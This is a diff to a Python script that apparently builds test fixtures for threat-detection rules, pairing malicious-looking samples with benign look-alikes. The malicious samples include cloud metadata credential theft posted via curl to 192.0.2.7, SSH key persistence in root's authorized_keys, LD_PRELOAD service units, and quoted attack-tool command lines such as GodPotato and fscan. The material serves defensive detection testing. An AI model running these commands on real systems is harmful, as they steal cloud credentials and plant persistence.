@@ -6,6 +6,7 @@ is a real implant."""
 import hashlib
 import os
 import sys
+from xml.sax.saxutils import escape
 
 ELF_SO = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + b"\0" * 44
 ELF_REL = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x01\0\x3e\0" + b"\0" * 44
@@ -20,6 +21,15 @@ def strings(head, *words):
 
 def wide(text):
     return text.encode("utf-16-le")
+
+
+def audit(args):
+    """A command as auditd records it: what has blanks or quotes is in hex, and the title too."""
+    def coded(arg):
+        return arg.encode().hex().upper() if any(c in arg for c in ' "\n') else '"%s"' % arg
+    words = " ".join("a%d=%s" % (i, coded(arg)) for i, arg in enumerate(args))
+    return ("type=EXECVE msg=audit(1700000000.123:45): argc=%d %s\n" % (len(args), words) +
+            "type=PROCTITLE msg=audit(1700000000.123:45): proctitle=%s\n" % "\0".join(args).encode().hex().upper())
 
 
 UNIT = "[Unit]\nDescription=x\n[Service]\nType=simple\n%s\n[Install]\nWantedBy=multi-user.target\n"
@@ -248,7 +258,7 @@ SAMPLES = {
     "persistence_authorized_keys_from_script": (
         ("x.sh", "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDExampleExampleExampleExample x' >> /root/.ssh/authorized_keys\n"
                  "chattr +i /root/.ssh/authorized_keys\n"),
-        ("x.sh", "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDExampleExampleExampleExample x' >> /root/.ssh/authorized_keys\n")),
+        ("x.sh", "ssh-copy-id -i /root/.ssh/id_rsa.pub root@192.0.2.7\nchattr +i /etc/resolv.conf\n")),
     "persistence_systemd_preload": (
         ("x.service", UNIT % "Environment=LD_PRELOAD=/dev/shm/libx.so\nExecStart=/usr/sbin/sshd -D"),
         ("x.service", UNIT % "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\nExecStart=/usr/bin/redis-server")),
@@ -525,7 +535,7 @@ SAMPLES = {
         (".bashrc", "alias ssh='ssh -o ServerAliveInterval=30'\nalias sudo='sudo '\n")),
     "credential_cloud_metadata_script": (
         ("x.sh", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web > /tmp/k\ncurl -F u=@/tmp/k http://192.0.2.7/u\n"),
-        ("x.sh", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\n")),
+        ("x.sh", "curl -s http://169.254.169.254/latest/meta-data/instance-id > /tmp/i\ncurl -F u=@/tmp/i http://192.0.2.7/u\n")),
     "credential_iis_password_command": (
         ("a.log", "appcmd.exe list apppool \"web\" /text:processmodel.password\r\n"),
         ("a.log", "appcmd.exe list apppool\r\n")),
@@ -711,6 +721,9 @@ SAMPLES = {
     "implant_esxi_socket_backdoor": (
         ("ksmd", strings(ELF_EXE, "/dev/vsock", "/vmfs/devices/char/vsock/vsock", "kill -9 `ps -c | grep vmsyslogd`")),
         ("vmtoolsd", strings(ELF_EXE, "/dev/vsock", "/vmfs/devices/char/vsock/vsock"))),
+    "credential_cloud_metadata_asked": (
+        ("h", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n"),
+        ("h", "curl -s http://169.254.169.254/latest/meta-data/instance-id\n")),
 }
 
 # As advisories and reports quote them: each is looked for in text, and in UTF-16 as Windows logs have it.
@@ -856,6 +869,8 @@ QUOTED = [
     ("exploit_windows_token_tool", 'GodPotato.exe -cmd "cmd /c whoami"'),
     ("recon_fscan", "fscan64.exe -h 10.0.0.0/24 -o r.txt"),
     ("tunnel_remote_desktop_unattended", "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent"),
+    ("credential_cloud_metadata_asked", "curl -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ("credential_cloud_metadata_asked", 'Invoke-RestMethod -Headers @{Metadata="true"} -Uri http://169.254.169.254/metadata/identity/oauth2/token'),
 ]
 
 # The same for Unix and devices: text only.
@@ -970,6 +985,42 @@ HONEST = [
     "esxcli software vib list",
     "vim-cmd vmsvc/getallvms",
     "show running-config | include logging",
+    "access-list 20 permit 192.0.2.0 0.0.0.255",
+    "copy running-config startup-config",
+    "service sshd_operns status",
+    "sshd -D -p 2222",
+    "curl -fsSL https://get.docker.com | sh",
+    "curl https://sh.rustup.rs -sSf | sh -s -- -y",
+    "Invoke-WebRequest -Uri https://aka.ms/wsl -OutFile C:\\Windows\\Temp\\wsl.appx",
+    "curl.exe -o C:\\Tools\\a.zip http://10.0.0.5/a.zip",
+    "Get-MpPreference | select ExclusionPath",
+    "Set-MpPreference -DisableRealtimeMonitoring $false",
+    "rclone sync /srv/backup b2:backup --transfers 4",
+    "rclone copy d:\\data onedrive:data",
+    "touch /usr/local/bin/x",
+    "touch -r /etc/motd /tmp/stamp",
+    "chattr +i /var/www/html/.user.ini",
+    "chattr +i /etc/.pwd.lock",
+    "ln -s /dev/null ~/.mysql_history",
+    "export HISTSIZE=0",
+    "history -c",
+    "journalctl --vacuum-size=500M",
+    "echo cGFzcw== | base64 -d | sha256sum",
+    "EXEC sp_configure 'xp_cmdshell', 0",
+    "exec xp_cmdshell 'dir d:\\backup'",
+    "cmd /c echo one ^& echo two ^> x",
+    "echo \"ssh-rsa AAAA\" | ssh-keygen -lf -",
+    "curl -s http://169.254.169.254/latest/meta-data/instance-id",
+    "php -r '$s=fsockopen(\"192.0.2.7\",80);fwrite($s,\"GET /\");'",
+    "wget https://downloads.example.org/x.zip -O /tmp/x.zip && unzip /tmp/x.zip -d /opt/x && bash /opt/x/install.sh",
+    "python3 -c \"import base64;print(base64.b64decode('aGk='))\"",
+    "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
+    "/usr/bin/3proxy /etc/3proxy/3proxy.cfg",
+    audit(["bash", "-c", "echo > /dev/tcp/127.0.0.1/22"]),
+    audit(["sh", "-c", "curl -fsSL https://get.docker.com | sh"]),
+    audit(["tar", "-C", "/dev/shm", "-xf", "a b.tar"]),
+    audit(["grep", "socket.socket", "a b"]),
+    audit(["nc", "-z", "-v", "192.0.2.7", "443"]),
 ]
 
 
@@ -983,6 +1034,10 @@ def evtx(line):
     return b"\0\0\0\0" + wide(line + "\r\n")
 
 
+def xml(line):
+    return "<Event><EventData><Data Name='CommandLine'>%s</Data></EventData></Event>\r\n" % escape(line)
+
+
 def main():
     out = sys.argv[1]
     for rule, pair in SAMPLES.items():
@@ -990,6 +1045,7 @@ def main():
             write(data, out, kind, rule, name)
     for n, (rule, line) in enumerate(QUOTED):
         write(evtx(line), out, "hit", rule, "%d.evtx" % n)
+        write(xml(line), out, "hit", rule, "%d.xml" % n)
     for n, (rule, line) in enumerate(QUOTED + QUOTED_PLAIN):
         write(line + "\n", out, "hit", rule, "%d.log" % n)
     for n, line in enumerate(HONEST):
